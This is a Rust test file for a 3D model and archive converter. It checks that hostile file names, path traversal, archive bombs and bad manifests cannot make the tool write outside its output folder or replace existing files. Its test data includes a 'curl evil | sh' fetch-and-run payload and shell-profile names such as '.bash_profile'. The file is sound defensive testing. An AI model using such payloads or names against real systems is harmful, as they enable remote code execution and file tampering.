//! Outputs whose names come from files: only announced files, only in the output folder, never inputs.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a failing test panics")]

use crate::common::{Watched, code, names, ok, program, run_in as run, stderr, stdout, tree};
use crate::hostile_names::{PNG, Ran, attempt, base, named_picture, with_kept};
use meshwright_testkit::packs::{Method, Numbered, dat, pak, zip};
use meshwright_testkit::{patience, testdata};
use serde_json::Value;
use std::ffi::OsString;
use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;
use tempfile::TempDir;

fn folder(files: &[(&str, &[u8])]) -> TempDir {
    let dir = TempDir::new().unwrap();
    for (name, bytes) in files {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    dir
}

fn fixture(name: &str) -> Vec<u8> {
    fs::read(testdata().join(name)).unwrap()
}

/// Returns a GLB with its original.
fn glb_with_original() -> Vec<u8> {
    let dir = folder(&[("hopper.dpm", &fixture("dpm/hopper.ok.dpm"))]);
    ok(dir.path(), &["convert", "hopper.dpm", "--keep-native", "-q", "-o", "h.glb"]);
    fs::read(dir.path().join("h.glb")).unwrap()
}

fn json(output: &std::process::Output) -> Value {
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}{}", stdout(output), stderr(output)))
}

#[test]
fn companions_of_an_embedded_original_have_plain_names_of_their_kind() {
    let kept = glb_with_original();
    let script = b"curl evil | sh\n".as_slice();
    for (role, format, name) in [
        ("keys", "cfp", ".bash_profile"),
        ("keys", "cfp", "x.cfp"),
        ("keys", "cfp", "a\u{202e}b.framegroups"),
        ("skeleton", "skel", "CON.skel"),
        ("animation", "anim", "a\u{1b}[2J.anim"),
        ("binding", "bnd", "x.sh"),
        ("clips", "framegroups", "other.dpm.sh"),
    ] {
        let evil = with_kept(&kept, None, Some((role, format, name, script)));
        let dir = folder(&[("evil.glb", &evil), ("home/notes", b"")]);
        let output = run(dir.path(), &["convert", "evil.glb", "-o", "home/y.dpm"]);
        let made = names(&dir.path().join("home"));
        // It is refused, or its original is not used.
        assert!(matches!(code(&output), 0 | 1), "{name}: {}", stderr(&output));
        assert!(made.iter().all(|own| ["notes", "y.dpm", "y.dpm.framegroups"].contains(&&**own)), "{made:?}");
        let acts = stderr(&output).chars().find(|c| *c != '\n' && meshwright::acts_on_terminal(*c));
        assert_eq!(acts, None, "{:?}", stderr(&output));
    }
    // The same document as it was made.
    let dir = folder(&[("good.glb", &with_kept(&kept, None, None))]);
    ok(dir.path(), &["convert", "good.glb", "-o", "y.dpm"]);
    assert_eq!(fs::read(dir.path().join("y.dpm")).unwrap(), fixture("dpm/hopper.ok.dpm"));
}

#[test]
fn textures_replace_no_file_that_is_there() {
    let glb = named_picture("skin", "skin", PNG);
    let dir = folder(&[("a.glb", &glb), ("skin.png", b"mine")]);
    let refused = run(dir.path(), &["convert", "a.glb", "-o", "a.dpm", "--format=json"]);
    assert_eq!(code(&refused), 2);
    assert_eq!(json(&refused)["files"][0]["error"]["code"], "would-replace");
    assert!(stderr(&refused).contains("--force"), "{}", stderr(&refused));
    assert_eq!(names(dir.path()), ["a.glb", "skin.png"]);
    assert_eq!(fs::read(dir.path().join("skin.png")).unwrap(), b"mine");
    assert_eq!(code(&run(dir.path(), &["convert", "a.glb", "-o", "a.dpm", "--dry-run"])), 2);
    let forced = run(dir.path(), &["convert", "a.glb", "-o", "a.dpm", "--force", "--format=json"]);
    assert_eq!(json(&forced)["files"][0]["output"], serde_json::json!(["skin.png", "a.dpm"]));
    assert_eq!(fs::read(dir.path().join("skin.png")).unwrap(), PNG);
    // The same picture need not be written again, and is not announced.
    let again = run(dir.path(), &["convert", "a.glb", "-o", "a.dpm", "--format=json"]);
    assert_eq!(json(&again)["files"][0]["output"], serde_json::json!(["a.dpm"]));
    // One that another model of the run uses.
    let quad = fixture("dpm/quad.ok.dpm");
    let glb = named_picture("textures/quad", "q", PNG);
    let dir = folder(&[("a.glb", &glb), ("z.dpm", &quad), ("quad.png", b"z's")]);
    let output = run(dir.path(), &["convert", ".", "-o", "./", "--to", "iqm"]);
    assert_eq!(code(&output), 2, "{}", stderr(&output));
    assert_eq!(fs::read(dir.path().join("quad.png")).unwrap(), b"z's");
    assert_eq!(names(dir.path()), ["a.glb", "quad.png", "z.dpm", "z.iqm"]);
}

#[test]
fn what_is_no_picture_is_not_written_as_one_and_long_names_are_cut() {
    let long = "n".repeat(300);
    for (material, picture, made) in [
        ("skin", &b"#!/bin/sh\n"[..], &["a.dpm"][..]),
        (&long, PNG, &["a.dpm", &"n".repeat(200)]),
        ("CON", PNG, &["_CON.png", "a.dpm"]),
        (".profile", PNG, &["_.profile.png", "a.dpm"]),
    ] {
        let dir = folder(&[("a.glb", &named_picture(material, "x", picture))]);
        let output = run(dir.path(), &["convert", "a.glb", "-o", "out/", "--to", "dpm", "--format=json"]);
        assert_eq!(code(&output), 0, "{}", stderr(&output));
        let names = names(&dir.path().join("out"));
        assert!(
            names.len() == made.len() && names.iter().zip(made).all(|(a, b)| a.starts_with(b)),
            "{names:?}"
        );
    }
}

#[test]
fn unpack_replaces_nothing_unless_it_is_asked_to_and_never_its_archive() {
    let pack = zip(&[("p.pk3", b"member"), ("q.txt", b"q"), (".profile", b"x")], Method::Stored);
    let dir = folder(&[("p.pk3", &pack), ("q.txt", b"mine")]);
    for (options, status) in [(&[][..], 2), (&["--force"], 2), (&["--no-clobber"], 0)] {
        let output = run(dir.path(), &[&["unpack", "p.pk3", "-o", "."], options].concat());
        assert_eq!(code(&output), status, "{options:?}: {}", stderr(&output));
        assert_eq!(fs::read(dir.path().join("p.pk3")).unwrap(), pack);
        assert_eq!(fs::read(dir.path().join("q.txt")).unwrap(), b"mine");
        assert_eq!(names(dir.path()), ["p.pk3", "q.txt"], "{options:?}");
    }
    let names_of_nothing = [("a\u{202e}b.txt", &b"x"[..]), ("con.cfg", b"x"), ("a.", b"x")];
    fs::write(dir.path().join("odd.pak"), pak(&names_of_nothing)).unwrap();
    let odd = run(dir.path(), &["unpack", "odd.pak", "-o", "odd"]);
    assert_eq!((code(&odd), stderr(&odd).matches("bad-output").count()), (1, 3), "{}", stderr(&odd));
    assert!(!dir.path().join("odd").exists());
    let said = run(dir.path(), &["unpack", "p.pk3", "-o", "new", "--format=json"]);
    assert_eq!(names(&dir.path().join("new")), ["p.pk3", "q.txt"]);
    let document = json(&said);
    assert_eq!(
        (document["summary"]["done"].as_u64(), document["summary"]["hidden"].as_u64()),
        (Some(2), Some(1))
    );
    assert!(document.to_string().contains(r#""output":"new/q.txt""#), "{document}");
    // `--no-clobber` keeps existing files.
    fs::write(dir.path().join("new/q.txt"), b"mine").unwrap();
    fs::remove_file(dir.path().join("new/p.pk3")).unwrap();
    let kept = run(dir.path(), &["unpack", "p.pk3", "-o", "new", "--no-clobber"]);
    assert!(stderr(&kept).contains("1 existing kept"), "{}", stderr(&kept));
    assert_eq!(fs::read(dir.path().join("new/q.txt")).unwrap(), b"mine");
    assert!(dir.path().join("new/p.pk3").exists());
    run(dir.path(), &["unpack", "p.pk3", "-o", "new", "--force"]);
    assert_eq!(fs::read(dir.path().join("new/q.txt")).unwrap(), b"q");
    // Two archives have one file.
    fs::copy(dir.path().join("p.pk3"), dir.path().join("r.pk3")).unwrap();
    let both = run(dir.path(), &["unpack", "p.pk3", "r.pk3", "-o", "both"]);
    assert!(code(&both) == 2 && !dir.path().join("both").exists(), "{}", stderr(&both));
    assert_eq!(code(&run(dir.path(), &["unpack", "p.pk3", "-o", "less", "--max-output", "3"])), 1);
    assert!(!dir.path().join("less").exists());
}

#[test]
fn names_of_a_pack_that_are_not_utf_8_stay_different() {
    let mut pack = pak(&[("@/@.tga", &b"one"[..]), ("@/#.tga", b"two"), ("~.tga", b"three")]);
    for byte in &mut pack {
        *byte = match byte {
            b'@' => 0xe4,
            b'#' => 0xf6,
            b'~' => 0x81,
            _ => continue,
        };
    }
    let dir = folder(&[("p.pak", &pack)]);
    let unpacked = run(dir.path(), &["unpack", "p.pak", "-o", "out"]);
    assert_eq!(code(&unpacked), 0, "{}", stderr(&unpacked));
    for (name, bytes) in
        [("\u{e4}/\u{e4}.tga", "one"), ("\u{e4}/\u{f6}.tga", "two"), ("\u{fffd}.tga", "three")]
    {
        assert_eq!(fs::read_to_string(dir.path().join("out").join(name)).unwrap(), bytes);
    }
}

#[test]
fn a_pack_is_made_of_what_can_be_read_and_says_what_is_left_out() {
    let mut pack = zip(&[("../a.txt", b"out"), ("b.txt", b"whole")], Method::Stored);
    let dir = folder(&[("p.pk3", &pack)]);
    let packed = run(dir.path(), &["pack", "p.pk3", "-o", "q.pk3"]);
    assert!(code(&packed) == 0 && stderr(&packed).contains("not packed: "), "{}", stderr(&packed));
    assert!(stderr(&packed).contains("../a.txt"), "{}", stderr(&packed));
    let at = pack.windows(5).position(|bytes| bytes == b"whole").unwrap();
    pack[at] = b'W';
    fs::write(dir.path().join("p.pk3"), pack).unwrap();
    let packed = run(dir.path(), &["pack", "p.pk3", "-o", "r.pk3", "--format=json"]);
    assert_eq!(code(&packed), 1, "{}", stderr(&packed));
    assert!(stderr(&packed).contains("p.pk3/b.txt: error[bad-crc]"), "{}", stderr(&packed));
    assert_eq!(json(&packed)["error"]["companion"], "p.pk3/b.txt");
    assert!(!dir.path().join("r.pk3").exists());
}

/// All 100,000 entries of the archive are the same 64 KiB.
#[test]
fn archives_that_claim_too_much_are_refused_and_written_on_request() {
    let bomb = dat(&[Numbered { name: "a.bmp", kind: 1, file: 1, bytes: vec![7; 1 << 16] }]);
    let manifest = u32::from_le_bytes(bomb[12..16].try_into().unwrap()) as usize;
    let many = |count: u32| {
        let mut bytes = bomb[..manifest].to_vec();
        bytes.extend(count.to_le_bytes());
        for file in 0..count {
            bytes.extend_from_slice(&bomb[manifest + 4..manifest + 24]);
            bytes.extend(file.to_le_bytes());
            bytes.extend_from_slice(&bomb[manifest + 28..]);
        }
        bytes
    };
    let dir = folder(&[("bomb.dat", &many(100_000)), ("small.dat", &many(400))]);
    let mut all = Duration::ZERO;
    for words in [&["check", "bomb.dat"][..], &["info", "bomb.dat"], &["unpack", "bomb.dat", "-o", "out"]] {
        let Watched { output, worked, .. } = Watched::run(dir.path(), words);
        all += worked;
        assert!(matches!(code(&output), 1 | 3), "{words:?}: {}", stderr(&output));
        assert!(stderr(&output).contains("unpacked-limit"), "{words:?}: {}", stderr(&output));
    }
    assert!(all < Duration::from_secs(5) * patience(), "{all:?}");
    assert!(!dir.path().join("out").exists());
    // Nothing of it is read.
    assert_eq!(code(&run(dir.path(), &["list", "bomb.dat"])), 0);
    assert_eq!(code(&run(dir.path(), &["unpack", "small.dat", "-o", "out", "--max-output", "10M"])), 1);
    assert!(!dir.path().join("out").exists());
    let words = ["unpack", "small.dat", "-o", "out", "--max-output", "30M", "-q"];
    let Watched { output, worked, .. } = Watched::run(dir.path(), &words);
    assert_eq!(code(&output), 0, "{}", stderr(&output));
    assert_eq!(names(&dir.path().join("out")).len(), 400);
    assert!(worked < Duration::from_secs(10) * patience(), "{worked:?}");
}

#[test]
fn a_manifest_names_plain_files_below_the_output_and_replaces_no_output() {
    let dir = folder(&[("in/h.dpm", &fixture("dpm/hopper.ok.dpm")), ("notes.txt", b"x")]);
    let convert = |more: &[&str]| {
        run(dir.path(), &[&["convert", "in", "-o", "out/", "-q", "--manifest"], more].concat())
    };
    assert_eq!(code(&convert(&["m.json"])), 0);
    let text = fs::read_to_string(dir.path().join("m.json")).unwrap();
    let hash = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881";
    let own = text.split("\"sha256\": \"").find(|part| part.contains("h.glb")).unwrap_or_default();
    assert!(!own.is_empty() || text.contains("\"path\": \"h.glb\""), "{text}");
    let unchanged = |text: &str| {
        fs::write(dir.path().join("m.json"), text).unwrap();
        let output = convert(&["m.json", "--resume", "--format=json"]);
        assert_eq!(code(&output), 0, "{}", stderr(&output));
        json(&output)["summary"]["unchanged"].as_u64().unwrap_or(0)
    };
    assert_eq!(unchanged(&text), 1);
    let document: Value = serde_json::from_str(&text).unwrap();
    let with_outputs = |outputs: Value| {
        let mut document = document.clone();
        document["files"][0]["outputs"] = outputs;
        document.to_string()
    };
    let of_x = |path: &str| serde_json::json!([{ "path": path, "sha256": hash, "bytes": 1 }]);
    for outputs in [
        serde_json::json!([]),
        of_x("../notes.txt"),
        of_x("/dev/zero"),
        of_x(dir.path().join("notes.txt").to_str().unwrap()),
        of_x("./../notes.txt"),
    ] {
        assert_eq!(unchanged(&with_outputs(outputs.clone())), 0, "{outputs}");
    }
    #[cfg(unix)]
    {
        let fifo = dir.path().join("out/pipe.glb");
        assert!(std::process::Command::new("mkfifo").arg(fifo).status().unwrap().success());
        assert_eq!(unchanged(&with_outputs(of_x("pipe.glb"))), 0);
    }
    // A manifest in the place of an output, of an input, and of a companion that looks like one.
    fs::remove_file(dir.path().join("out/h.glb")).unwrap();
    assert_eq!(code(&convert(&["out/h.glb"])), 2);
    assert!(!dir.path().join("out/h.glb").exists());
    let companion = r#"{"version":1,"files":[]}"#;
    fs::write(dir.path().join("in/tree.json"), companion).unwrap();
    assert_eq!(code(&convert(&["in/tree.json"])), 2);
    assert_eq!(fs::read_to_string(dir.path().join("in/tree.json")).unwrap(), companion);
    // One that cannot be written is refused before the work.
    assert_eq!(code(&convert(&["no/such/m.json"])), 3);
    assert!(!dir.path().join("out/h.glb").exists());
    // One that is large is charged.
    let mut large = String::from(r#"{"version":1,"files":["#);
    large.extend(std::iter::repeat_n("{},", 3_000_000));
    fs::write(dir.path().join("m.json"), large + "{}]}").unwrap();
    let output = convert(&["m.json", "--resume"]);
    assert!(code(&output) == 2 && stderr(&output).contains("--max-memory"), "{}", stderr(&output));
}

/// A run may replace the files that the manifest of an earlier run lists.
#[test]
fn what_the_manifest_says_was_written_is_replaced() {
    let glb = |picture: &[u8]| named_picture("skin", "skin", picture);
    let dir = folder(&[("in/a.glb", &glb(PNG))]);
    let convert = |options: &[&str]| {
        run(dir.path(), &[&["convert", "in", "-o", "out/", "--to", "dpm"], options].concat())
    };
    assert_eq!(code(&convert(&["--manifest", "out/m.json"])), 0);
    let other = [PNG, b"more"].concat();
    fs::write(dir.path().join("in/a.glb"), glb(&other)).unwrap();
    assert_eq!(code(&convert(&[])), 2, "without the manifest nothing is known");
    assert_eq!(code(&convert(&["--manifest", "out/m.json"])), 0);
    assert_eq!(fs::read(dir.path().join("out/skin.png")).unwrap(), other);
    // Somebody else's now.
    fs::write(dir.path().join("out/skin.png"), b"painted").unwrap();
    assert_eq!(code(&convert(&["--manifest", "out/m.json"])), 2);
    assert_eq!(fs::read(dir.path().join("out/skin.png")).unwrap(), b"painted");
}

#[test]
fn outputs_of_all_commands_are_listed_and_spare_what_is_read() {
    let dir = folder(&[
        ("h.dpm", &fixture("dpm/hopper.ok.dpm")),
        ("h.dpm.framegroups", &fixture("dpm/hopper.ok.dpm.framegroups")),
        ("files/a.txt", b"a"),
        ("w.bmd", &fixture("bmd/windmill.ok.bmd")),
    ]);
    ok(dir.path(), &["pack", "files", "-o", "p.pk3"]);
    let outputs = |words: &[&str]| json(&run(dir.path(), words))["output"].clone();
    assert_eq!(
        outputs(&["edit", "h.dpm", "--set-attach", "#0", "-o", "e.dpm", "--format=json"]),
        serde_json::json!(["e.dpm"])
    );
    assert_eq!(outputs(&["optimize", "w.bmd", "-o", "o.bmd", "--format=json"]), serde_json::json!(["o.bmd"]));
    let before = tree(dir.path());
    for words in [
        &["edit", "h.dpm", "--set-attach", "#0", "-o", "h.dpm"][..],
        &["pack", "files", "--onto", "p.pk3", "-o", "files/a.txt"],
        &["pack", "files", "--onto", "p.pk3", "-o", "p.pk3"],
        &["optimize", "h.dpm", "-o", "h.dpm"],
        &["dump", "h.dpm", "-o", "h.dpm.framegroups"],
        &["render", "h.dpm", "-o", "h.dpm"],
    ] {
        let output = run(dir.path(), words);
        assert_eq!(code(&output), 2, "{words:?}: {}", stderr(&output));
        assert!(tree(dir.path()) == before, "{words:?}");
    }
}

/// Runs fixed seeds of the fuzz target: any document, embedded original, archive and manifest, into folders that
/// already have files.
#[test]
fn what_changes_is_what_was_announced() {
    let dir = TempDir::new().unwrap();
    let mut run = |words: &[OsString]| {
        let output = program().args(words).output().unwrap();
        Ran { code: output.status.code(), out: output.stdout }
    };
    let base = base(&dir.path().join("base"), &mut run);
    assert!(base.len() >= 4, "{} documents", base.len());
    let cases = 250;
    let broken: Vec<String> =
        (0..cases).flat_map(|seed| attempt(seed, &dir.path().join("case"), &base, &mut run)).collect();
    assert!(broken.is_empty(), "{} of {cases}:\n{}", broken.len(), broken.join("\n"));
    let left: Vec<PathBuf> = fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().path()).collect();
    assert!(left.iter().all(|path| Path::new(path).ends_with("base") || path.ends_with("case")), "{left:?}");
}

#[test]
fn commands_say_what_they_wrote() {
    let dir = folder(&[("a.dpm", &fixture("dpm/hopper.ok.dpm")), ("b.dpm", &fixture("dpm/quad.ok.dpm"))]);
    let folder = dir.path();
    for (words, file) in [
        (&["render", "a.dpm", "-o", "a.png"][..], "a.png"),
        (&["render", "--sheet", "a.dpm", "-o", "b.png"], "b.png"),
        (&["dump", "a.dpm", "-o", "a.json"], "a.json"),
        (&["dump", "--native", "a.dpm", "-o", "b.json"], "b.json"),
    ] {
        let said = stderr(&run(folder, words));
        assert!(said.contains(&format!("wrote {file} (")), "{words:?}: {said}");
        let quiet = stderr(&run(folder, &[words, &["--quiet"]].concat()));
        assert!(!quiet.contains("wrote"), "{words:?}: {quiet}");
    }
    let pages = stderr(&run(folder, &["man", "pages"]));
    assert!(pages.contains(&format!("wrote {} pages", names(&folder.join("pages")).len())), "{pages}");
    let drawn = stderr(&run(folder, &["render", "a.dpm", "b.dpm", "--sheet", "-o", "c.png"]));
    assert!(drawn.contains("wrote 1 file ("), "{drawn}");
    assert!(!stderr(&run(folder, &["dump", "a.dpm"])).contains("wrote"));
}
